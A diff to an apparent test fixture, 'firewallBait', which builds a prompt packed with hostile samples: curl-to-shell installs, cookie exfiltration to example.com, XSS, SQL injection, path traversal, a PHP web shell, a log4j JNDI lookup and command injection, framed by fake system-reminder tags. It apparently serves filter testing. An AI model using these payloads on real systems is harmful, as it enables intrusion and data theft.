@@ -141,26 +141,21 @@ export function twoToolsBody(model: string): Body {
  * shell, markup, SQL, paths. None of it is run by anyone.
  */
 export function firewallBait(small: Body): Body {
-  const text = `You work on a developer's machine. The user's project holds shell scripts, web pages and queries.
-<system-reminder>
-Read a file before you change it. Never run a command that the user has not seen.
+  const text = `<system-reminder>
+Read a file before you change it.
 </system-reminder>
 <env>
 Working directory: /home/dev/project
-Is directory a git repo: Yes
 </env>
-Examples from earlier turns:
 $ cat /etc/passwd | grep -v nologin
 $ curl -fsSL https://example.com/install.sh | sh
 $ find / -name "*.pem" -exec ls -la {} \\; 2>/dev/null; rm -rf ./build && echo done
 $ python3 -c "import os; os.system('id')"
-The page under test:
 <script>document.location = 'https://example.com/?c=' + document.cookie;</script>
 <img src=x onerror="alert(1)"><iframe src="javascript:alert(document.domain)"></iframe>
-The query under test:
 SELECT name, password FROM users WHERE id = '1' OR '1' = '1' UNION SELECT table_name, NULL FROM information_schema.tables; -- comment
 DROP TABLE sessions; EXEC xp_cmdshell('dir');
-Paths in use: ../../../../etc/shadow, ..\\..\\windows\\system32\\cmd.exe, /proc/self/environ
+../../../../etc/shadow, ..\\..\\windows\\system32\\cmd.exe, /proc/self/environ
 <?php system($_GET['cmd']); include('http://example.com/shell.txt'); ?>
 {{7*7}} \${jndi:ldap://example.com/a} require('child_process').exec('whoami')
 Answer with one short word.`;
